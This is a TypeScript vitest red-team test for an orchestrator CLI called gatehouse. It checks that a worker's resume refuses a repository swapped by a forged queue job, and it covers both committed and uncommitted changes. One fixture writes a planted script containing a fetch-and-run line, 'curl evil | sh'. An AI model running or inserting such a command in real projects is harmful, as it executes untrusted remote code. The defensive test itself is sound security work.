import { execFileSync, spawnSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { beforeAll, describe, expect, it } from 'vitest';
import { RunLog } from '../../src/events/store';
import { realRepoPath } from '../../src/events/state-home';
import { repoTree } from '../../src/run/repo-tree';
import { tempDir } from '../state/fake-runs';

/**
 * Red team (issue 16), a hostile queue publisher: a second job for run X (a `start` whose run has
 * events, or a `resume`) naming ANOTHER snapshot. The worker extracts that snapshot where X's
 * repository is (the same path on every worker) and runs `gatehouse resume X` on it. Before the
 * fix resume only warned that the tree changed, and X went on over the attacker's repository.
 * A worker's run child (GATEHOUSE_WORKER_LINK set) must refuse instead: its repository is a
 * snapshot, so a changed tree is never "a fixed dependency", it is another repository.
 */
const root = fileURLToPath(new URL('../../..', import.meta.url));
const cli = path.join(root, 'orchestrator/bin/gatehouse.mjs');

const git = (dir: string, ...args: string[]) =>
  execFileSync('git', ['-C', dir, '-c', 'user.name=t', '-c', 'user.email=t@t', ...args], { stdio: 'pipe' });

function gitRepo(): string {
  const dir = realRepoPath(tempDir('gh-rt16-repo-'));
  git(dir, 'init', '-q');
  writeFileSync(path.join(dir, 'a.txt'), 'one\n');
  git(dir, 'add', '-A');
  git(dir, 'commit', '-qm', 'first');
  return dir;
}

/** A run that started on `repo` and has not ended, in a state folder of its own (as a worker's). */
function startedRun(repo: string, runId: string): { stateDir: string; env: NodeJS.ProcessEnv } {
  const home = tempDir('gh-rt16-home-');
  const stateDir = tempDir('gh-rt16-state-');
  const env = {
    ...process.env,
    HOME: home,
    XDG_STATE_HOME: '',
    GATEHOUSE_STATE_DIR: '',
    GATEHOUSE_KEY_FILE: path.join(home, 'log.key'),
    CI: 'true',
  };
  const saved = process.env.GATEHOUSE_KEY_FILE;
  process.env.GATEHOUSE_KEY_FILE = env.GATEHOUSE_KEY_FILE;
  try {
    const log = RunLog.create(stateDir, runId);
    log.append('run.started', 'user', {
      task: 't',
      mode: 'auto',
      surface: [],
      repo,
      model: 'scripted:/nonexistent-rt16.json',
      lineage: [runId],
      tree: repoTree(repo)!,
    });
    log.close();
  } finally {
    if (saved === undefined) delete process.env.GATEHOUSE_KEY_FILE;
    else process.env.GATEHOUSE_KEY_FILE = saved;
  }
  return { stateDir, env };
}

/** `gatehouse resume` as a worker starts it: fd 3 a pipe the test holds, GATEHOUSE_WORKER_LINK=3. */
function resumeAsWorker(repo: string, runId: string, r: { stateDir: string; env: NodeJS.ProcessEnv }, link = true) {
  return spawnSync(process.execPath, [cli, 'resume', `--repo=${repo}`, `--state-dir=${r.stateDir}`, '--', runId], {
    cwd: repo,
    env: { ...r.env, ...(link ? { GATEHOUSE_WORKER_LINK: '3' } : {}) },
    stdio: ['ignore', 'pipe', 'pipe', 'pipe'],
    encoding: 'utf8',
    timeout: 30_000,
  });
}

describe('redteam16: a second job for a run names another repository', () => {
  beforeAll(() => {
    execFileSync(process.execPath, ['scripts/build.mjs'], { cwd: root, stdio: 'pipe' });
  });

  it("a worker's resume refuses a repository whose tree is not the one the run started on", () => {
    const repo = gitRepo();
    const run = startedRun(repo, 'run_rt16swap01');
    // The forged job's snapshot, extracted over the run's repository path: another commit.
    writeFileSync(path.join(repo, 'a.txt'), 'the attacker wrote this\n');
    git(repo, 'commit', '-qam', 'swapped');
    const r = resumeAsWorker(repo, 'run_rt16swap01', run);
    expect(r.stderr).toMatch(/changed since run run_rt16swap01 started: its committed tree changed/);
    expect(r.stderr).toMatch(/refus|not the repository/i);
    expect(r.stderr).not.toMatch(/nonexistent-rt16\.json/);
    expect(r.status).toBe(1);
  });

  it('uncommitted edits in the swapped snapshot are refused too', () => {
    const repo = gitRepo();
    const run = startedRun(repo, 'run_rt16swap02');
    writeFileSync(path.join(repo, 'planted.sh'), 'curl evil | sh\n');
    const r = resumeAsWorker(repo, 'run_rt16swap02', run);
    expect(r.stderr).toMatch(/it has uncommitted changes now/);
    expect(r.stderr).not.toMatch(/nonexistent-rt16\.json/);
    expect(r.status).toBe(1);
  });

  it('the same snapshot (a real takeover) passes the check and goes on (the missing script stops it next)', () => {
    const repo = gitRepo();
    const run = startedRun(repo, 'run_rt16same01');
    const r = resumeAsWorker(repo, 'run_rt16same01', run);
    expect(r.stderr).not.toMatch(/changed since/);
    expect(r.stderr).toMatch(/nonexistent-rt16\.json/);
  });

  it('by hand (no worker) a changed tree stays a warning, as docs/runs.md says', () => {
    const repo = gitRepo();
    const run = startedRun(repo, 'run_rt16hand01');
    writeFileSync(path.join(repo, 'new.txt'), 'n\n');
    const r = resumeAsWorker(repo, 'run_rt16hand01', run, false);
    expect(r.stderr).toMatch(/changed since run run_rt16hand01 started/);
    expect(r.stderr).toMatch(/nonexistent-rt16\.json/);
  });
});
